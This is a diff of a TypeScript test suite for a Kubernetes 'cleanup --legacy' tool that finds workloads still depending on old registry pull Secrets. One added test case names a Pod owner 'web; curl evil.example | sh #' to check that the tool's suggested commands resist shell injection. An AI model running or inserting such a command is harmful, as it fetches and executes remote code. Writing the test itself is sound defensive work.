@@ -8,16 +8,24 @@ import { trimObject } from '../../../src/migrate/remove/read-cluster.ts'
 import type { HelperConfig } from '../../../src/values/helper-config.generated.ts'
 import { object } from '../import/import-fixture.ts'
 import { A, AGGREGATION, account, B, deployment, pod, recipe2018 } from '../import/recipe-2018.ts'
-import { HOST, IMAGE, NOW, ours, release, SECRET, secret } from './our-fixture.ts'
+import { configuredEntry, HOST, IMAGE, NOW, ours, release, SECRET, secret } from './our-fixture.ts'
 
 interface Row {
   readonly title: string
   readonly objects: readonly AnyObject[]
   readonly ours?: Partial<OurSide>
+  /** Of the one instance in the old helper's configuration. */
   readonly domains?: readonly string[]
+  readonly isPublic?: (image: string) => boolean
   /** The subject of each dependency, and a word of its reason, fix or command. */
   readonly depends: readonly (readonly [subject: string, word: string])[]
 }
+
+/** An instance that acr-nopass does not have. */
+const OTHER = 'base-registry.cn-beijing.cr.aliyuncs.com'
+/** An old Secret with a login for it too. */
+const withOther = (one: AnyObject): AnyObject =>
+  one.kind === 'Secret' ? { ...one, logins: { hosts: [HOST, OTHER], isFixed: false } } : one
 
 /** The recipe of 2018, with our entry next to its own. */
 const switched = [
@@ -142,6 +150,7 @@ const ROWS: readonly Row[] = [
     title: 'Pods of a Deployment from before the switch: one line for all of them, with the command',
     objects: [
       ...switched,
+      deployment('default', 'web', IMAGE),
       owned(replicaSet('web-5d9'), 'Deployment', 'web'),
       owned(pod('default', 'web-5d9-a', IMAGE, A, B), 'ReplicaSet', 'web-5d9'),
       owned(pod('default', 'web-5d9-b', IMAGE, A, B), 'ReplicaSet', 'web-5d9'),
@@ -152,6 +161,7 @@ const ROWS: readonly Row[] = [
     title: 'Pods from before the switch, of a StatefulSet, of a Job, and without an owner',
     objects: [
       ...switched,
+      { ...deployment('default', 'db', IMAGE), kind: 'StatefulSet' },
       owned(pod('default', 'db-0', IMAGE, A), 'StatefulSet', 'db'),
       owned(pod('default', 'job-x', IMAGE, A), 'Job', 'job', 'batch/v1'),
       pod('default', 'alone', IMAGE, A),
@@ -160,6 +170,16 @@ const ROWS: readonly Row[] = [
       ['statefulset/db in default', 'rollout restart statefulset/db'],
       ['job/job in default', 'until it is finished'],
       ['Pod default/alone', 'Create it again from its manifest'],
+    ],
+  },
+  {
+    title: 'a Pod that names an owner that does not exist: no command with words of that Pod',
+    objects: [...switched, owned(pod('default', 'p', IMAGE, A), 'Deployment', 'web; curl evil.example | sh #')],
+    depends: [
+      [
+        'deployment/web; curl evil.example | sh # in default',
+        'Let what controls this Deployment create its Pods again. ',
+      ],
     ],
   },
   {
@@ -183,20 +203,41 @@ const ROWS: readonly Row[] = [
   },
   {
     title: 'an image of a domain that acr-nopass does not have, whatever the Pod names',
-    objects: [...switched, pod('default', 'p', 'base-registry.cn-beijing.cr.aliyuncs.com/a/b:1', A, SECRET)],
-    depends: [['Pod default/p', 'base-registry.cn-beijing']],
+    objects: [...switched.map(withOther), pod('default', 'p', `${OTHER}/a/b:1`, A, SECRET)],
+    depends: [
+      ['Pod default/p', OTHER],
+      [OTHER, 'holds a login for it'],
+    ],
+  },
+  {
+    title:
+      'a registry of ACR that neither the old Secret nor acr-nopass has: whatever pulls from it does so without them',
+    objects: [...switched, pod('default', 'p', `${OTHER}/a/b:1`, A, SECRET)],
+    depends: [],
+  },
+  {
+    title: 'an image that anyone may pull, on a host of an old login',
+    objects: [...switched.map(withOther), pod('default', 'p', `${OTHER}/google_containers/pause:3.9`, A)],
+    isPublic: (image) => image === `${OTHER}/google_containers/pause:3.9`,
+    depends: [[OTHER, 'holds a login for it']],
   },
   {
     title: 'an image of a custom domain that the old helper is configured with',
     objects: [...switched, pod('default', 'p', 'images.example.com/a/b:1', A, SECRET)],
     domains: ['images.example.com'],
-    depends: [['Pod default/p', 'images.example.com']],
+    depends: [
+      ['Pod default/p', 'images.example.com'],
+      ['images.example.com', 'no registry of acr-nopass has it'],
+    ],
   },
   {
     title: 'a registry whose credential is not in this namespace’s Secret',
     objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
     ours: { secrets: new Map([['default', secret({ registries: ['else'] })]]) },
-    depends: [['Pod default/p', HOST]],
+    depends: [
+      ['Pod default/p', HOST],
+      [HOST, 'no registry of acr-nopass has it in that namespace'],
+    ],
   },
   {
     title: 'a template that names an old Secret itself',
@@ -222,16 +263,19 @@ const ROWS: readonly Row[] = [
   {
     title: 'a CronJob without a Pod, whose image only the old helper covers',
     objects: [
-      ...switched,
+      ...switched.map(withOther),
       object('CronJob', 'default', 'nightly', {
         spec: {
           jobTemplate: {
-            spec: { template: { spec: { containers: [{ image: 'base-registry.cn-beijing.cr.aliyuncs.com/a/b' }] } } },
+            spec: { template: { spec: { containers: [{ image: `${OTHER}/a/b` }] } } },
           },
         },
       }),
     ],
-    depends: [['CronJob default/nightly', 'registries']],
+    depends: [
+      ['CronJob default/nightly', 'registries'],
+      [OTHER, 'holds a login for it'],
+    ],
   },
   // Objects that an operator creates must not be mistaken for copies of a template that was never read.
   ...(
@@ -282,12 +326,15 @@ const ROWS: readonly Row[] = [
     // https://prometheus-operator.dev/docs/api-reference/api/#monitoring.coreos.com/v1.PrometheusSpec
     title: 'an image in a separate field of an object of an unknown kind',
     objects: [
-      ...switched,
+      ...switched.map(withOther),
       custom('Prometheus', 'main', 'monitoring.coreos.com/v1', {
-        spec: { replicas: 0, image: 'base-registry.cn-beijing.cr.aliyuncs.com/a/b', serviceAccountName: 'default' },
+        spec: { replicas: 0, image: `${OTHER}/a/b`, serviceAccountName: 'default' },
       }),
     ],
-    depends: [['Prometheus default/main', 'registries']],
+    depends: [
+      ['Prometheus default/main', 'registries'],
+      [OTHER, 'holds a login for it'],
+    ],
   },
   // Uses other than pulling.
   ...(
@@ -353,24 +400,112 @@ const ROWS: readonly Row[] = [
     title: 'an image in a repository that `repositories` do not include',
     objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
     ours: { release: release(repositories('base/*', 'other')) },
-    depends: [['Pod default/p', 'shop/web, which no `repositories`']],
+    depends: [
+      ['Pod default/p', 'shop/web, which no `repositories`'],
+      [HOST, 'pulls only base/*, other/*'],
+    ],
   },
   ...['*', 'shop/*', 'shop', 'shop/web', '*/web'].map((glob) => ({
     title: `an image in a repository that \`repositories: ["${glob}"]\` include`,
     objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
     ours: { release: release(repositories(glob)) },
-    depends: [],
+    // An old login pulls every repository, so a narrower one is a decision of the user.
+    depends: glob === '*' ? [] : ([[HOST, 'holds a login for all its repositories']] as const),
   })),
+  {
+    title: 'an old Secret whose content could not be read',
+    objects: [...switched, { ...object('Secret', 'shop', AGGREGATION), logins: undefined }],
+    depends: [[`Secret shop/${AGGREGATION}`, 'could not be read']],
+  },
+  {
+    title: 'an old Secret that nothing names, in a namespace without our Secret',
+    objects: [...switched, object('Secret', 'other', AGGREGATION)],
+    depends: [[`Secret other/${AGGREGATION}`, 'no current pull secret']],
+  },
+  {
+    title: 'a Pod template in a ConfigMap of another namespace',
+    objects: [
+      ...switched,
+      object('ConfigMap', 'airflow', 'templates', { data: { 'pod.yaml': `imagePullSecrets: [{name: ${A}}]` } }),
+    ],
+    depends: [['ConfigMap airflow/templates', 'its text names the Secret']],
+  },
+  {
+    title: 'a ConfigMap with the name of a Secret that does not exist',
+    objects: [...switched, object('ConfigMap', 'docs', 'notes', { data: { text: AGGREGATION } })],
+    depends: [],
+  },
+  {
+    title: 'binary data of a ConfigMap',
+    objects: [
+      ...switched,
+      object('ConfigMap', 'jenkins', 'casc', {
+        binaryData: { 'a.xml': Buffer.from(`<s>${A}</s>`).toString('base64') },
+      }),
+    ],
+    depends: [['ConfigMap jenkins/casc', 'its text names the Secret']],
+  },
+  {
+    title: 'an argument and an annotation of a template',
+    objects: [
+      ...switched,
+      withSpec('StatefulSet', 'runner', { containers: [{ image: 'x', args: [`--pull-secrets=own,${A}`] }] }),
+      object('CronJob', 'default', 'agent', {
+        spec: {
+          jobTemplate: {
+            spec: { template: { metadata: { annotations: { 'x/secret': `${A},own` } }, spec: NGINX } },
+          },
+        },
+      }),
+    ],
+    depends: [
+      ['StatefulSet default/runner', 'its text names the Secret'],
+      ['CronJob default/agent', 'its text names the Secret'],
+    ],
+  },
+  {
+    title: 'the copy of an object that kubectl keeps in an annotation is not a use',
+    objects: [
+      ...switched,
+      {
+        ...deployment('default', 'web', IMAGE, SECRET),
+        metadata: {
+          ...deployment('default', 'web', IMAGE).metadata,
+          annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `{"imagePullSecrets":[{"name":"${A}"}]}` },
+        },
+      },
+    ],
+    depends: [],
+  },
+  {
+    title: 'a Role by which somebody may read an old Secret',
+    objects: [
+      ...switched,
+      {
+        ...object('Role', 'default', 'ci', { rules: [{ resources: ['secrets'], resourceNames: [A], verbs: ['get'] }] }),
+        apiVersion: 'rbac.authorization.k8s.io/v1',
+      },
+    ],
+    depends: [['Role default/ci', 'its text names the Secret']],
+  },
 ]
 
 const UNTRIMMED = ['ConfigMap', 'ClusterRole', 'Secret', 'Node']
 
-for (const { title, objects, depends, domains = [], ...row } of ROWS) {
+/** Old Secrets with a login for one host, unless a row gives them others. */
+const withLogins = (one: AnyObject): AnyObject =>
+  one.kind === 'Secret' && !('logins' in one) ? { ...one, logins: { hosts: [HOST], isFixed: false } } : one
+
+const entry = (domains: readonly string[]) => ({ ...configuredEntry(), instanceId: 'cri-shop', domains })
+
+for (const { title, depends, domains, isPublic, ...row } of ROWS) {
   test(`cleanup --legacy: ${title}`, () => {
-    const found = findDependents(collectFacts(objects), ours(row.ours), domains)
+    const objects = row.objects.map(withLogins)
+    const configured = { entries: domains === undefined ? [] : [entry(domains)], patterns: [] }
+    const found = findDependents(collectFacts(objects), ours(row.ours), configured, isPublic)
     // Each object is reduced when it is read, as in a real list.
     const read = objects.map((one) => (UNTRIMMED.includes(one.kind) ? one : trimObject(one)))
-    const trimmed = findDependents(collectFacts(read), ours(row.ours), domains)
+    const trimmed = findDependents(collectFacts(read), ours(row.ours), configured, isPublic)
     assert.deepEqual(trimmed, found)
     assert.deepEqual(
       found.map(({ subject }) => subject),
@@ -389,7 +524,7 @@ test('cleanup --legacy: the name of an old Secret is found at any depth of an ob
     custom('ManifestWork', 'wide', 'work.open-cluster-management.io/v1', { spec: deep as object }),
   ])
   assert.deepEqual(
-    found.workloads.map(({ name, uses }) => [name, uses]),
+    found.workloads.map(({ name, mentions }) => [name, mentions]),
     [['wide', [A]]],
   )
 })
@@ -403,7 +538,7 @@ test("P12 cleanup --legacy: objects of another API group are not mistaken for Ku
     const { accounts, secrets, workloads } = collectFacts(objects)
     assert.deepEqual([accounts, secrets], [[], []])
     assert.deepEqual(
-      workloads.map(({ kind, name, uses }) => [kind, name, uses]),
+      workloads.map(({ kind, name, mentions }) => [kind, name, mentions]),
       [['ServiceAccount', 'robot', [A]]],
     )
   }
